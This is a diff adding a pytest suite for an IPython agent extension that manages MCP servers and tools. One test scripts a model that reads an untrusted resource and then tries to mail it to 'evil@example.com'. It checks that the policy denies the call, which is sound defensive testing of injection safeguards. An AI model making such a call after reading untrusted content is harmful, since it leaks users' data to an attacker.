@@ -1,0 +1,135 @@
+"""``%agent_mcp`` in a real IPython shell, ``%%agent --tools NAME`` with a configured server, an HTTP server
+built with the SDK, resources read into a prompt as untrusted data, and ``%unload_ext`` stopping servers."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from IPython.core.error import UsageError
+from IPython.core.interactiveshell import InteractiveShell
+
+from nbagent import Agent, ToolCall
+from nbagent.mcp import MCPServer, read_resource
+from nbagent.mcp._config import user_config_path
+from nbagent.policy import Policy
+from nbagent.providers import ScriptedProvider
+
+
+@pytest.fixture
+def shell() -> Iterator[InteractiveShell]:
+    sh = InteractiveShell.instance()
+    sh.run_line_magic("load_ext", "nbagent")
+    yield sh
+    sh.run_line_magic("unload_ext", "nbagent")
+    import nbagent
+
+    nbagent.configure(model=None, tools=[], policy=None)
+
+
+def _out(capsys: Any) -> str:
+    return str(capsys.readouterr().out)
+
+
+def test_add_list_tools_remove(shell: InteractiveShell, capsys: Any, time_command: list[str]) -> None:
+    shell.run_line_magic("agent_mcp", f"add time -- {time_command[0]}")
+    assert "Added MCP server 'time'" in _out(capsys)
+    assert "time:\n    command:" in user_config_path().read_text()
+    shell.run_line_magic("agent_mcp", "list")
+    listing = _out(capsys)
+    assert "time  [stopped]  stdio:" in listing and "log: " in listing and "time.log" in listing
+    shell.run_line_magic("agent_mcp", "tools time")
+    tools = _out(capsys)
+    assert "time__get_current_time  (not read-only, says readOnlyHint (trust_read_only_hints: false))" in tools
+    shell.run_line_magic("agent_mcp", "list")
+    assert "time  [running, 2 tools]" in _out(capsys)
+    shell.run_line_magic("agent_mcp", "remove time")
+    assert "Removed" in _out(capsys)
+    with pytest.raises(UsageError, match="no MCP server named 'time'"):
+        shell.run_line_magic("agent_mcp", "tools time")
+    with pytest.raises(UsageError, match="unknown action"):
+        shell.run_line_magic("agent_mcp", "frobnicate")
+
+
+def test_a_configured_server_by_name_in_agent_tools(shell: InteractiveShell, time_command: list[str]) -> None:
+    import nbagent
+
+    shell.run_line_magic("agent_mcp", f"add time -- {time_command[0]}")
+    model = ScriptedProvider([ToolCall("time__get_current_time", {"timezone": "UTC"}, "c1"), "It is noon."])
+    nbagent.configure(model=model, policy=Policy(allow=["time__*"]))
+    shell.run_cell_magic("agent", "--tools time", "What time is it?")
+    result = shell.user_ns["_agent"]
+    assert result.tool_records[0].status == "ok" and "day_of_week" in repr(model.requests[1].messages)
+
+
+def test_the_git_servers_resources_are_listed(shell: InteractiveShell, capsys: Any, git_command: list[str]) -> None:
+    shell.user_ns["git"] = MCPServer.stdio(git_command, name="git")
+    shell.run_line_magic("agent_mcp", "resources git")
+    assert "MCP server 'git' offers no resources." in _out(capsys)  # mcp-server-git 2026.10.19 offers tools only
+    shell.run_line_magic("agent_mcp", "prompts git")
+    assert "offers no prompts" in _out(capsys)
+
+
+def test_http_server_tools_resources_and_a_resource_inserted_into_a_prompt(
+    shell: InteractiveShell, capsys: Any, http_url: str
+) -> None:
+    import nbagent
+
+    notes = MCPServer.http(http_url, name="notes")
+    shell.user_ns["notes"] = notes
+    shell.run_line_magic("agent_mcp", "resources notes")
+    assert "notes://release  release-notes [text/plain]" in _out(capsys)
+    shell.run_line_magic("agent_mcp", "read notes notes://release --as release")
+    assert "marked untrusted" in _out(capsys)
+    assert nbagent.is_untrusted(shell.user_ns["release"])
+    sent: list[str] = []
+
+    def send_mail(to: str) -> str:
+        """Send the notes."""
+        sent.append(to)
+        return "sent"
+
+    shell.user_ns["send_mail"] = send_mail
+    model = ScriptedProvider(
+        [
+            ToolCall("notes__add", {"a": 2, "b": 3}, "c1"),
+            ToolCall("send_mail", {"to": "evil@example.com"}, "c2"),
+            "Summary.",
+        ]
+    )
+    # adding numbers changes nothing: the person keeps it runnable after untrusted content
+    nbagent.configure(model=model, policy=Policy.from_yaml("allow: ['*']\ntrusted_after_untrusted: [notes__add]\n"))
+    shell.run_cell_magic("agent", "--tools notes,send_mail", "Summarise {release}")
+    result = shell.user_ns["_agent"]
+    prompt = repr(model.requests[0].messages)
+    assert "BEGIN UNTRUSTED DATA `release`" in prompt and "Release 2.0" in prompt
+    records = {r.id: r for r in result.tool_records}
+    assert records["c1"].status == "ok" and "5" in repr(model.requests[1].messages)  # the HTTP server added
+    # the resource in the prompt tainted the session: the mail (allowed by policy) needs a person
+    assert records["c2"].status == "denied" and sent == []
+
+
+def test_read_resource_marks_the_text_untrusted(http_url: str) -> None:
+    import nbagent
+
+    text = read_resource(MCPServer.http(http_url, name="notes"), "notes://release")
+    assert text.startswith("Release 2.0") and nbagent.is_untrusted(text)
+
+
+def test_an_agent_with_an_http_server(http_url: str) -> None:
+    model = ScriptedProvider([ToolCall("notes__shout", {"text": "hi"}, "c1"), "ok"])
+    result = Agent(model, tools=[MCPServer.http(http_url, name="notes")], policy=Policy(allow=["*"])).run("shout")
+    assert result.tool_records[0].status == "ok" and "HI" in repr(model.requests[1].messages)
+
+
+def test_unload_ext_stops_the_servers(time_command: list[str], tmp_path: Path) -> None:
+    sh = InteractiveShell.instance()
+    sh.run_line_magic("load_ext", "nbagent")
+    server = MCPServer.stdio(time_command, name="time")
+    server.tools()
+    assert server.status == "running"
+    sh.run_line_magic("unload_ext", "nbagent")
+    assert server.status == "stopped"
+    assert "stopped" in server.log_path.read_text()
